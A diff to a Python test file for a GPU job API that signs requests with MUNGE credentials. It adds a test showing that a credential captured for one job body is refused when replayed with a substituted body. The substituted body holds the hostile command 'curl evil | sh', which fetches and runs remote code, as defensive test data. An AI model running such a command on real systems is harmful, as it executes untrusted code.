@@ -7,6 +7,7 @@ both databases, decoded by libmunge and by the `unmunge` command.
 
 from __future__ import annotations
 
+import json
 import time
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -57,6 +58,11 @@ def world(
         yield w
 
 
+def munge_post(w: ApiWorld, path: str, credential: str, body: bytes) -> Any:
+    headers = {"Authorization": f"MUNGE {credential}", "Content-Type": "application/json"}
+    return w.client.post(path, content=body, headers=headers)
+
+
 def munge_get(w: ApiWorld, path: str, credential: str, **params: str) -> Any:
     return w.client.get(path, params=params, headers={"Authorization": f"MUNGE {credential}"})
 
@@ -73,9 +79,9 @@ def refused(response: Any, reason: str) -> str:
 def test_a_credential_signs_in_the_user_of_its_account(
     world: ApiWorld, accounts: list[str]
 ) -> None:
-    body = {"name": "m", "command": "true", "num_gpus": 1}
-    cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs"))
-    r = world.client.post("/v1/jobs", json=body, headers={"Authorization": f"MUNGE {cred}"})
+    body = json.dumps({"name": "m", "command": "true", "num_gpus": 1}).encode()
+    cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs", body=body))
+    r = munge_post(world, "/v1/jobs", cred, body)
     assert r.status_code == 201, r.text
     assert (r.json()["user"], r.json()["lab"]) == ("dana", "beta")
     cred = credential_as(accounts[0], request_payload("GET", "/v1/jobs", "mine=true"))
@@ -99,6 +105,13 @@ def test_a_credential_is_good_for_its_own_request_only(
     refused(munge_get(world, "/v1/jobs", cred, mine="false"), "MUNGE_WRONG_REQUEST")
     cred = credential_as(accounts[0], b"")  # what a bare `munge -n` makes
     refused(munge_get(world, "/v1/queue", cred), "MUNGE_WRONG_REQUEST")
+    # the body is signed: a credential captured on its way cannot carry another command
+    honest = json.dumps({"command": "true", "num_gpus": 1}).encode()
+    evil = json.dumps({"command": "curl evil | sh", "num_gpus": 1}).encode()
+    cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs", body=honest))
+    refused(munge_post(world, "/v1/jobs", cred, evil), "MUNGE_WRONG_REQUEST")
+    with world.sessions() as s:
+        assert store.list_jobs(s, store.JobFilter()) == []
 
 
 def test_a_credential_of_an_account_no_user_runs_as_is_refused(
